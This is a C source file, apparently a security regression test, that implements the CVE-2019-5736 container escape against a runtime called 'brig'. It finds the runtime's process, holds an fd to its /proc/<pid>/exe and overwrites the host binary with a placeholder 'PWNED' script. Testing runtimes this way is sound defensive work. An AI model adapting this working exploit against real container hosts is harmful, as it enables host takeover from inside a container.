/* The hostile init of t-exe-overwrite.sh for a static brig (CVE-2019-5736
 * as first published: no loader needed).
 *
 * A static brig has no loader for the image to replace, but an entrypoint
 * `#!/proc/self/exe --log=/fifo` still runs brig's binary inside the
 * container, and brig then waits in open() of its log, the image's FIFO.
 * This program is the container's init, or a process `brig exec` runs beside
 * a brig that is the init: it finds that process, keeps an
 * O_PATH fd of its /proc/<pid>/exe, lets brig go on (opens the FIFO), and
 * once brig has exited reopens the fd for writing and replaces the file.
 * If brig ran from the host binary, that is the host binary. Every step is
 * reported on stdout as "HUNT ...". */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static void nap(void)
{
    struct timespec ts = { 0, 10 * 1000 * 1000 };
    nanosleep(&ts, NULL);
}

/* A process other than us, in our mount namespace (the container's: with
 * no pid namespace /proc shows the host's processes, which are not
 * ours to touch), whose exe names brig (the host binary or a copy). */
static int hunt_find(char *exe, size_t len)
{
    struct stat self;
    if (stat("/proc/self/ns/mnt", &self) < 0) return -1;
    DIR *d = opendir("/proc");
    if (d == NULL) return -1;
    struct dirent *e;
    int found = -1;
    while (found < 0 && (e = readdir(d)) != NULL) {
        int pid = atoi(e->d_name);
        if (pid <= 0 || pid == getpid()) continue;
        char link[64];
        struct stat ns;
        snprintf(link, sizeof(link), "/proc/%d/ns/mnt", pid);
        if (stat(link, &ns) < 0 || ns.st_ino != self.st_ino || ns.st_dev != self.st_dev) continue;
        snprintf(link, sizeof(link), "/proc/%d/exe", pid);
        ssize_t n = readlink(link, exe, len - 1);
        if (n <= 0) continue;
        exe[n] = '\0';
        if (strstr(exe, "brig") != NULL) found = pid;
    }
    closedir(d);
    return found;
}

int main(void)
{
    setvbuf(stdout, NULL, _IONBF, 0);
    char exe[4096];
    int pid = -1;
    for (int i = 0; i < 6000 && pid < 0; i++) {     /* 60 s: the test's exec comes */
        pid = hunt_find(exe, sizeof(exe));
        if (pid < 0) nap();
    }
    if (pid < 0) {
        printf("HUNT no brig seen\n");
        return 1;
    }
    printf("HUNT exe=%s\n", exe);
    char link[64];
    snprintf(link, sizeof(link), "/proc/%d/exe", pid);
    int fd = open(link, O_PATH | O_CLOEXEC);
    if (fd < 0) printf("HUNT open %s: %s\n", link, strerror(errno));
    /* Let brig go on: its log is our FIFO; what it logs is echoed. */
    int fifo = open("/fifo", O_RDONLY | O_CLOEXEC);
    char buf[512];
    ssize_t n;
    while (fifo >= 0 && (n = read(fifo, buf, sizeof(buf))) > 0) {
        printf("HUNT brig says: ");
        fwrite(buf, 1, (size_t)n, stdout);
    }
    char gone[4096];       /* a zombie (not yet reaped) has no exe any more */
    for (int i = 0; i < 500 && readlink(link, gone, sizeof(gone)) > 0; i++) nap();
    if (fd < 0) {
        printf("HUNT done\n");
        return 0;
    }
    /* Run by `brig exec`, the writer goes on in the background: the brig
     * waiting for us runs from the same file and keeps it busy. */
    if (getpid() != 1) {
        pid_t w = fork();
        if (w < 0) printf("HUNT fork: %s\n", strerror(errno));
        if (w > 0) return 0;
        if (w == 0) setsid();
    }
    char self[64];
    snprintf(self, sizeof(self), "/proc/self/fd/%d", fd);
    int w = -1;
    for (int i = 0; i < 300 && w < 0; i++) {        /* until the file is no longer busy */
        w = open(self, O_WRONLY | O_TRUNC | O_CLOEXEC);
        if (w < 0 && errno != ETXTBSY) break;
        if (w < 0) nap();
    }
    if (w < 0) {
        printf("HUNT reopen for writing: %s\n", strerror(errno));
    } else {
        static const char pwn[] = "#!/bin/sh\necho PWNED by the container\n";
        ssize_t k = write(w, pwn, sizeof(pwn) - 1);
        printf("HUNT wrote %zd: %s\n", k, k < 0 ? strerror(errno) : "the exe is replaced");
    }
    printf("HUNT done\n");
    return 0;
}
